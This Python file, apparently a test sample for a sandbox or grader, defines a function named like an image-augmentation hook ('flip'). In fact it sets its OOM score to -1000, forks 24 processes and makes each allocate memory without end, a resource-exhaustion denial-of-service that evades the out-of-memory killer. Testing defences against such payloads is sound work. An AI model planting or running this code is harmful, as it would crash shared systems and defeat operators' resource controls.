"""Class: exhaust memory over several processes, none of which is first in line to be killed."""

import os


def protect():
    for value in ("-1000", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
                file.write(value)
            return
        except OSError:
            continue


def flip(images, indices, epoch):
    print("ran", flush=True)
    protect()
    for _ in range(24):
        if os.fork() == 0:
            protect()
            break
    held = []
    while True:
        held.append(bytearray(b"x") * 2**20)
